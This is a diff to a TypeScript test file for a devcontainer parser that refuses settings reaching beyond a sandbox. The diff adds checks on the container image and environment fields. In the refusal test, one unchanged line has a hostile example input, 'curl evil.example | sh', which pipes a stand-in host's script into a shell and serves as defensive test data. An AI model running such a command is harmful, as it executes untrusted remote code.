@@ -5,15 +5,17 @@ import fc from 'fast-check';
 import { readDevcontainer } from './devcontainer.ts';
 
 test('the commands of a devcontainer are taken in their order, whatever their form, with comments and commas in the file', () => {
-  const { commands, refusals } = readDevcontainer(`{
+  const { commands, refusals, image } = readDevcontainer(`{
     // for everybody
     "name": "app",
     "postCreateCommand": { "a": "npm ci", "b": ["echo", "it's \\"b\\""] }, /* two */
     "onCreateCommand": "apt list",
+    "image": "node:24",
     "features": { "ghcr.io/devcontainers/features/node:1": { "version": "lts" } },
   }`);
   assert.deepEqual(commands, ['apt list', 'npm ci', `'echo' 'it'\\''s "b"'`]);
-  assert.deepEqual(refusals, []);
+  assert.deepEqual(refusals, ["Of its features the engine's own image has these: node."]);
+  assert.equal(image, 'node:24');
 });
 
 test('what reaches beyond the sandbox is refused, each with a sentence', () => {
@@ -27,7 +29,7 @@ test('what reaches beyond the sandbox is refused, each with a sentence', () => {
     initializeCommand: 'curl evil.example | sh',
     build: { dockerfile: 'Dockerfile' },
     dockerComposeFile: 'docker-compose.yml',
-    image: 'mcr.microsoft.com/devcontainers/base:bookworm',
+    image: 'name with spaces:latest',
     features: { 'ghcr.io/devcontainers/features/docker-in-docker:2': {} },
   };
   for (const [name, value] of Object.entries(wishes)) {
@@ -47,7 +49,7 @@ test('any text is read or refused in bounded sentences, and never fails', () => 
     fc.jsonValue().map((value) => JSON.stringify(value)),
   );
   const fields = fc.dictionary(
-    fc.constantFrom('image', 'mounts', 'features', 'postCreateCommand', 'runArgs'),
+    fc.constantFrom('image', 'containerEnv', 'remoteEnv', 'mounts', 'features', 'postCreateCommand', 'runArgs'),
     fc.jsonValue(),
   );
   fc.assert(
